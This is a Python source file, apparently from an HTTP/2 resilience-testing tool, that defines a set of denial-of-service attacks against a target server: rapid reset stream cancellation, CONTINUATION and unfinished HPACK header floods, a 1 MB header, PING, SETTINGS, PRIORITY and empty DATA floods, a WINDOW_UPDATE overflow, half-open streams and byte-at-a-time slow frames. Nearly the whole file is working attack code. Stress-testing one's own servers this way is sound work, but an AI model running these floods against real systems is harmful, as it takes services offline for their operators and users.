"""Attacks by frames, before any token is looked at."""

import struct

import http2
import messages
from attack import attack
from http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    frame,
    message,
    settings,
    window_update,
)


def headers_of(connection):
    return connection.request_headers(messages.FIND_PATH)


def flood_of(aggressor, frames, *, begin=lambda _: b"", is_read=True, connections=2):
    """Sends frames as fast as they go, after those that `begin` makes for the connection."""

    def flood(_):
        connection = aggressor.connect()
        connection.send(begin(connection))
        while aggressor.left():
            connection.send(frames)
            while is_read and connection.receive(0):
                pass

    aggressor.together(connections, flood)


def resets(aggressor, count, data):
    """Calls that are begun and given up at once, as many of them on one connection as that takes."""
    connection = aggressor.connect()
    first, again = connection.remembered_headers(messages.FIND_PATH)
    connection.send(frame(HEADERS, END_HEADERS, 1, first))
    for begin in range(3, 2 * count, 400):
        connection.send(
            b"".join(
                frame(HEADERS, END_HEADERS, stream, again) + frame(DATA, 0, stream, data) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in range(begin, begin + 400, 2)
            )
        )
    while aggressor.left():
        connection.receive(aggressor.left())


@attack("rapid reset, 60,000 calls on one connection")
def rapid_reset(aggressor):
    aggressor.again_and_again(resets, aggressor, 60_000, message(bytes(20)))


@attack("rapid reset in the middle of uploads")
def upload_reset(aggressor):
    # Each promises a message of 4 MB and sends a hundred bytes of it.
    aggressor.again_and_again(resets, aggressor, 60_000, struct.pack(">BI", 0, 4_000_000) + bytes(100))


@attack("CONTINUATION flood of small headers")
def continuation(aggressor):
    # As many headers of 9 bytes as one frame holds.
    part = b"".join(http2.header(f"x-{index:04}", "") for index in range(1777))
    frames = frame(CONTINUATION, 0, 1, part) * 16
    flood_of(aggressor, frames, begin=lambda one: frame(HEADERS, 0, 1, headers_of(one)), is_read=False, connections=1)


@attack("unfinished HPACK strings, 4 connections of 10 MB")
def unfinished_strings(aggressor):
    def flood(_):
        connection = aggressor.connect()
        # A value of 10 MB, of which ever more comes.
        start = b"\0" + http2.integer(3, 7) + b"x-a" + http2.integer(10_000_000, 7)
        connection.send(frame(HEADERS, 0, 1, headers_of(connection) + start))
        for _ in range(10_000_000 // 16_000):
            connection.send(frame(CONTINUATION, 0, 1, b"a" * 16_000))
        aggressor.hold([connection])

    aggressor.together(4, flood)


@attack("one header of 1 MB", short=True)
def huge_header(aggressor):
    def send():
        connection = aggressor.connect()
        block = connection.request_headers(messages.FIND_PATH, extra=[("x-large", "a" * 1_000_000)])
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        connection.send(frame(HEADERS, 0, 1, parts[0]))
        connection.send(b"".join(frame(CONTINUATION, 0, 1, part) for part in parts[1:-1]))
        connection.send(frame(CONTINUATION, END_HEADERS, 1, parts[-1]))
        connection.receive(1)

    aggressor.again_and_again(send)


@attack("PING flood", short=True)
def pings(aggressor):
    flood_of(aggressor, frame(PING, 0, 0, bytes(8)) * 500)


@attack("PING flood, answers unread")
def unread_pings(aggressor):
    flood_of(aggressor, frame(PING, 0, 0, bytes(8)) * 500, is_read=False, connections=1)


@attack("SETTINGS flood", short=True)
def settings_flood(aggressor):
    flood_of(aggressor, settings({http2.INITIAL_WINDOW_SIZE: 1 << 20}) * 300)


@attack("PRIORITY flood", short=True)
def priorities(aggressor):
    frames = b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in range(1, 2001, 2))
    flood_of(aggressor, frames)


@attack("WINDOW_UPDATE overflow", short=True)
def window_overflow(aggressor):
    def send():
        connection = aggressor.connect()
        connection.send(window_update(0, 0x7FFFFFFF) * 100)
        connection.receive(0.2)

    aggressor.again_and_again(send)


@attack("zero-length DATA flood", short=True)
def empty_data(aggressor):
    def begin(connection):
        return frame(HEADERS, END_HEADERS, 1, connection.request_headers(messages.IMPORT_MAP))

    flood_of(aggressor, frame(DATA, 0, 1) * 500, begin=begin)


@attack("half-closed calls: 100 connections, calls that never end")
def half_open(aggressor):
    connections = []

    def fill():
        connection = aggressor.connect()
        connections.append(connection)
        block = headers_of(connection)
        connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 400, 2)))

    while aggressor.left() and len(connections) < 100:
        try:
            fill()
        except (http2.Closed, OSError):
            pass
    aggressor.hold(connections)


@attack("frames a byte at a time, 200 connections", short=True)
def slow_frames(aggressor):
    connections = []
    for _ in range(200):
        try:
            connections.append(http2.Connection(aggressor.target))
        except OSError:
            break
    data = http2.PREFACE + settings({}) + frame(HEADERS, END_HEADERS, 1, b"x" * 100)
    for at in range(len(data)):
        if not aggressor.left():
            break
        for connection in list(connections):
            try:
                connection.send(data[at : at + 1])
            except (http2.Closed, OSError):
                connections.remove(connection)
    aggressor.hold(connections)
